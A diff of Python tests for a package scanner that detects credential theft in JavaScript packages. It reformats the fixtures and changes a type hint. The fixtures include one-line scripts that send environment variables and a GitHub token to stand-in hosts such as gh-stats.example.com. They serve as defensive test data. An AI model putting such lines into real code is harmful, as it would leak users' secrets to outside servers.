@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+
 from airlock.analysis import analyze
 from airlock.contents import read_tarball
 from airlock.model import PackageAnalysis
 from tests.fakes.tarballs import build_package
 
 
-def analysis(files: dict[str, str | bytes], **manifest: object) -> PackageAnalysis:
+def analysis(files: Mapping[str, str | bytes], **manifest: object) -> PackageAnalysis:
     return analyze(read_tarball(build_package("p", "1.0.0", files, **manifest), subject="p"))
 
 
@@ -46,19 +48,25 @@ def test_no_flow_when_helper_does_not_send() -> None:
 
 
 def test_function_only_flow_is_high() -> None:
-    files = {"index.js": "module.exports = () => fetch('https://a.example.com', {body: JSON.stringify(process.env)});\n"}
+    files = {
+        "index.js": "module.exports = () => fetch('https://a.example.com', {body: JSON.stringify(process.env)});\n"
+    }
     result = rules(analysis(files))
     assert result.get("secret-flow-in-function") == "high"
     assert "credential-exfiltration" not in result
 
 
 def test_token_to_own_service_is_not_flagged() -> None:
-    files = {"index.js": "fetch('https://api.github.com/user', {headers: {authorization: process.env.GITHUB_TOKEN}});\n"}
+    files = {
+        "index.js": "fetch('https://api.github.com/user', {headers: {authorization: process.env.GITHUB_TOKEN}});\n"
+    }
     assert not {"credential-exfiltration", "secret-flow-in-function"} & set(rules(analysis(files)))
 
 
 def test_token_to_other_host_is_flagged() -> None:
-    files = {"index.js": "fetch('https://gh-stats.example.com/u', {headers: {a: process.env.GITHUB_TOKEN}});\n"}
+    files = {
+        "index.js": "fetch('https://gh-stats.example.com/u', {headers: {a: process.env.GITHUB_TOKEN}});\n"
+    }
     assert rules(analysis(files)).get("credential-exfiltration") == "critical"
 
 
